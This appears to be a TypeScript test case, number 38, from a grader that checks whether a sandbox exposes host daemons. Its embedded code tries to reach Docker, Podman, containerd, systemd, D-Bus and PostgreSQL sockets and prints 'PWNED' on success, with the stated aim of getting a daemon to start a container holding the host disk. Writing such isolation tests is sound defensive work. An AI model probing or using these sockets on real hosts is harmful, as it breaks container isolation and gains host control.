import { type Attack, modelSource } from '#grader/attack/attack.ts'

export const attack: Attack = {
  number: 38,
  title: 'Sockets of container engines and service managers',
  intent: 'Ask a daemon of the host to start a container with its disk.',
  kind: 'model',
  verdicts: ['scored'],
  source: modelSource({
    buildModel: `const net = node('net')
  const fs = node('fs')
  const sockets = ['/var/run/docker.sock', '/run/docker.sock', '/run/podman/podman.sock', '/run/containerd/containerd.sock', '/run/systemd/private', '/run/dbus/system_bus_socket', '/var/run/postgresql/.s.PGSQL.5432', '/tmp/.s.PGSQL.5432']
  for (const socket of sockets) {
    if (fs.existsSync(socket)) console.log('PWNED sees ' + socket)
    await new Promise<void>((resolve) => net.connect(socket).on('error', () => resolve()).on('connect', () => { console.log('PWNED connected to ' + socket); resolve() }))
  }`,
  }),
}
